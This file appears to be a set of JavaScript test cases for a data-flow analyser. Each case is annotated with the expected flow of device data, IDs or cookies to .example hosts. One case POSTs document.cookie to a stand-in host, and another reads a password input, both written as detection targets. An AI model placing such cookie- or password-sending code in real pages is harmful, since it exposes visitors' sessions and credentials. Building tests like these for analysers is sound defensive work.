//# host-by-application-id
// flow: device > api-{}.hai.k10.example via fetch
// destination: https://api-{}.hai.k10.example/v3/users
// why: the id of the application is a label of the host; whose host it is stands in the code
class Client1 {
  constructor(appId) { this.appId = appId; }
  route(done) { done(null, { api: `https://api-${this.appId}.hai.k10.example` }); }
  send(path, body) {
    this.route((error, hosts) => { if (!error) fetch(hosts.api + path, { method: 'POST', body: JSON.stringify(body) }); });
  }
}
window.connect1 = (appId) => new Client1(appId).send('/v3/users', { agent: navigator.userAgent });

//# host-given-but-for-its-last-label
// flow: device > ? via fetch
// why: what is known of the host is the last label only: whose it is, is not known
window.connect2 = (domain) => fetch(`https://${domain}.example/hello`, { method: 'POST', body: navigator.userAgent });

//# private-fields-of-a-compiler
// flow: identifier > eu1.pfc.k10.example via fetch
// destination: https://eu1.pfc.k10.example/a
// why: the names of the fields are counted up at run time, and a helper hands the instance back; the region may be given
var id3 = 0;
function privateKey3(name) { return '__private_' + id3++ + '_' + name; }
function privateBase3(receiver, key) {
  if (!Object.prototype.hasOwnProperty.call(receiver, key)) throw new TypeError('private field on non-instance');
  return receiver;
}
const DOMAIN3 = 'pfc.k10.example';
var _region3 = privateKey3('region'), _domain3 = privateKey3('domain'), _mail3 = privateKey3('mail');
class Account3 {
  constructor(region, domain) {
    Object.defineProperty(this, _region3, { writable: true, value: '' });
    Object.defineProperty(this, _domain3, { writable: true, value: DOMAIN3 });
    Object.defineProperty(this, _mail3, { writable: true, value: 'mail.k10.example' });
    if (region) this.region = region;
    if (domain) this.domain = domain;
  }
  get region() { return privateBase3(this, _region3)[_region3]; }
  set region(region) { privateBase3(this, _region3)[_region3] = region; }
  get domain() { return privateBase3(this, _domain3)[_domain3]; }
  set domain(domain) { privateBase3(this, _domain3)[_domain3] = domain; }
  get mail() { return privateBase3(this, _mail3)[_mail3]; }
  get host() {
    if (this.region) return `${this.region}.${this.domain}`;
    if (this.domain === DOMAIN3) return `eu1.${this.domain}`;
    return this.domain;
  }
}
const account3 = new Account3(window.region3, window.domain3);
fetch(`https://${account3.host}/a`, { method: 'POST', body: document.cookie });

//# private-field-of-another-name
// no flow
// why: what was typed stands in one private field, another one is sent
var id4 = 0;
function privateKey4(name) { return '__private_' + id4++ + '_' + name; }
function privateBase4(receiver, key) { if (!receiver) throw new TypeError('no instance'); return receiver; }
var _typed4 = privateKey4('typed'), _step4 = privateKey4('step');
class Form4 {
  constructor() { privateBase4(this, _typed4)[_typed4] = document.querySelector('input[type=password]').value; }
  next() { privateBase4(this, _step4)[_step4] = 2; }
  send() { navigator.sendBeacon('https://pfo0.k10.example/s', privateBase4(this, _step4)[_step4]); }
}
const form4 = new Form4();
form4.next();
form4.send();

//# default-that-a-test-rules-out
// flow: device > ? via fetch
// why: where the host is the default nothing is sent; elsewhere it is what was given
const DEFAULT5 = 'dtr0.k10.example';
class Reporter5 {
  constructor(given) { this.host = given || DEFAULT5; }
  report() {
    if (this.host === DEFAULT5) return;
    fetch(`https://${this.host}/report`, { method: 'POST', body: navigator.userAgent });
  }
}
new Reporter5(window.host5).report();

//# one-sender-for-two-hosts
// flow: identifier > flags.osh.k10.example via fetch
// flow: identifier > events.osh.k10.example via fetch
// why: one function sends for the whole script; the same id goes to the one host by one call and to the other by another
const stable6 = localStorage.getItem('stable-id');
async function post6(endpoint, body, attempts) {
  const api = ['/initialize'].includes(endpoint) ? 'https://flags.osh.k10.example/v1' : 'https://events.osh.k10.example/v1';
  try {
    return await fetch(api + endpoint, { method: 'POST', body: JSON.stringify(body) });
  } catch (error) {
    if (attempts > 0) return post6(endpoint, body, attempts - 1);
  }
}
const start6 = (endpoint, body) => post6(endpoint, body, 3);
start6('/initialize', { user: { stable: stable6 } });
window.log6 = (name) => post6('/events', { name, stable: stable6 }, 0);

//# one-sender-and-a-call-without-the-id
// flow: identifier > events.osc.k10.example via fetch
// why: what goes to the host of the flags holds no id
const stable7 = localStorage.getItem('stable-id');
async function post7(endpoint, body) {
  const api = ['/initialize'].includes(endpoint) ? 'https://flags.osc.k10.example/v1' : 'https://events.osc.k10.example/v1';
  return fetch(api + endpoint, { method: 'POST', body: JSON.stringify(body) });
}
post7('/initialize', { key: 'client-1' });
window.log7 = (name) => post7('/events', { name, stable: stable7 });
